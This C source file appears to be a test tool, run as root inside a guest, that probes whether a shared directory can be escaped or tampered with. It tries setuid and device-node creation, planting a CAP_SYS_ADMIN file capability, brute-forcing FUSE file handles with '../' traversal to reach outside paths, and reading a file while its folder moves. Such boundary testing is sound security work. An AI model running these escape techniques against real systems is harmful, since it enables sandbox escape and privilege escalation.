/* Attacks on a shared directory, run inside the guest by its root: system calls with nothing in between.
 *
 * usage: share NONCE write|special DIRECTORY      tries every way to change it, or to leave there what would count
 *        share NONCE handles DIRECTORY PATH       opens what no name leads to, and from there PATH
 *        share NONCE swap FILE MILLISECONDS       reads FILE as often as possible while somebody moves its folder
 *        share NONCE nobody PROGRAM WORD...       runs PROGRAM as a user without rights
 *        share NONCE rights                       who it runs as
 * Every line it says begins with the nonce: "NONCE KEY 0" for what was done, else the error's number. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static const char *nonce;

static void tell(const char *key, long result) {
    printf("%s %s %d\n", nonce, key, result < 0 ? errno : 0);
    errno = 0;
}

/* Says the first line of what is read, if anything is. */
static void quote(const char *key, int fd) {
    char text[80];
    ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (size < 0) {
        tell(key, -1);
        return;
    }
    text[size] = 0;
    text[strcspn(text, "\n")] = 0;
    printf("%s %s read %s\n", nonce, key, text);
}

static void try_to_write(void) {
    struct timespec times[2] = {{1, 0}, {1, 0}};
    char again[40];
    int reading = open("file", O_RDONLY), writing = open("file", O_RDWR);
    tell("open", writing);
    tell("append", open("file", O_WRONLY | O_APPEND));
    snprintf(again, sizeof again, "/proc/self/fd/%d", reading);
    tell("reopen", open(again, O_RDWR));
    tell("write", write(writing, "x", 1));
    void *mapped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, writing, 0);
    tell("map", mapped == MAP_FAILED ? -1 : 0);
    tell("grow", fallocate(writing, 0, 0, 4096));
    tell("create", open("new", O_WRONLY | O_CREAT | O_EXCL, 0644));
    tell("nameless", open(".", O_TMPFILE | O_RDWR, 0600));
    tell("mode", chmod("file", 0600));
    tell("owner", chown("file", 0, 0));
    tell("times", utimensat(AT_FDCWD, "file", times, 0));
    tell("attribute", setxattr("file", "user.escape", "x", 1, 0));
    tell("truncate", truncate("file", 0));
    tell("folder", mkdir("made", 0755));
    tell("link", symlink("file", "symbolic"));
    tell("hard", link("file", "second"));
    tell("node", mknod("plain", S_IFREG | 0644, 0));
    tell("rename", rename("file", "renamed"));
    tell("remove", unlink("gone"));
    tell("empty", rmdir("hollow"));
}

static void try_what_counts(void) {
    (void)umask(0);
    int file = open("file", O_WRONLY | O_CREAT, 0644);
    tell("plain", file);
    tell("fchmod", fchmod(file, 04755));
    tell("chmod", chmod("file", 06755));
    tell("create", open("created", O_WRONLY | O_CREAT, 06755));
    tell("folder", mkdir("folder", 02755));
    tell("foldermode", chmod("folder", 02777));
    tell("character", mknod("character", S_IFCHR | 0666, 0x103));
    tell("block", mknod("block", S_IFBLK | 0666, 0x700));
    tell("regular", mknod("regular", S_IFREG | 06755, 0));
    /* struct vfs_cap_data: VFS_CAP_REVISION_2, effective; CAP_SYS_ADMIN permitted */
    const unsigned char capability[20] = {1, 0, 0, 2, 0, 0, 32, 0};
    tell("capability", setxattr("file", "security.capability", capability, sizeof capability, 0));
    tell("trusted", setxattr("file", "trusted.overlay.opaque", "y", 1, 0));
}

/* A handle of FUSE is a number of a node and its generation (fs/fuse/inode.c, FILEID_INO64_GEN): every number is tried. */
static void try_handles(const char *directory, const char *path) {
    struct {
        struct file_handle head;
        unsigned int words[3];
    } handle = {0};
    char key[40], up[400] = "";
    int mount, opened = 0, root = open(directory, O_RDONLY | O_DIRECTORY);
    handle.head.handle_bytes = sizeof handle.words;
    int known = name_to_handle_at(root, "inner", &handle.head, &mount, 0);
    tell("handle", known);
    for (int i = 0; i < 20; i++) strcat(up, "../");
    strncat(up, path + 1, sizeof up - 1 - strlen(up));
    for (unsigned int number = 0; known == 0 && number < 512; number++) {
        handle.words[0] = 0;
        handle.words[1] = number;
        for (unsigned int generation = 0; generation < 2; generation++) {
            handle.words[2] = generation;
            int fd = open_by_handle_at(root, &handle.head, O_RDONLY);
            if (fd < 0) continue;
            opened++;
            int there = openat(fd, up, O_RDONLY);
            if (there >= 0) {
                snprintf(key, sizeof key, "node.%u", number);
                quote(key, there);
                close(there);
            }
            close(fd);
        }
    }
    printf("%s opened %d\n", nonce, opened);
}

static void try_while_it_moves(const char *path, long milliseconds) {
    struct timespec at, begun;
    char seen[8][80] = {""}, text[80];
    long counts[8] = {0}, missing = 0;
    int kinds = 0;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    do {
        int fd = open(path, O_RDONLY), known = 0;
        ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
        if (fd >= 0) close(fd);
        clock_gettime(CLOCK_MONOTONIC, &at);
        if (size <= 0) {
            missing++;
            continue;
        }
        text[size] = 0;
        text[strcspn(text, "\n")] = 0;
        while (known < kinds && strcmp(seen[known], text) != 0) known++;
        if (known == 8) continue;
        if (known == kinds) snprintf(seen[kinds++], sizeof seen[0], "%s", text);
        counts[known]++;
    } while ((at.tv_sec - begun.tv_sec) * 1000 + (at.tv_nsec - begun.tv_nsec) / 1000000 < milliseconds);
    for (int i = 0; i < kinds; i++) printf("%s seen.%ld.%d %s\n", nonce, counts[i], i, seen[i]);
    printf("%s missing %ld\n", nonce, missing);
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    nonce = argv[1];
    const char *what = argv[2];
    if (strcmp(what, "rights") == 0) {
        printf("%s rights %d %d\n", nonce, (int)geteuid(), (int)getegid());
        return 0;
    }
    if (argc < 4) return 2;
    if (strcmp(what, "nobody") == 0) {
        if (setgid(65534) != 0 || setuid(65534) != 0) return 3;
        execv(argv[3], argv + 3);
        tell("exec", -1);
        return 0;
    }
    if (strcmp(what, "handles") == 0 && argc == 5) try_handles(argv[3], argv[4]);
    else if (strcmp(what, "swap") == 0 && argc == 5) try_while_it_moves(argv[3], atol(argv[4]));
    else if (chdir(argv[3]) != 0) tell("chdir", -1);
    else if (strcmp(what, "write") == 0) try_to_write();
    else if (strcmp(what, "special") == 0) try_what_counts();
    printf("%s finished.%s yes\n", nonce, what);
    return 0;
}
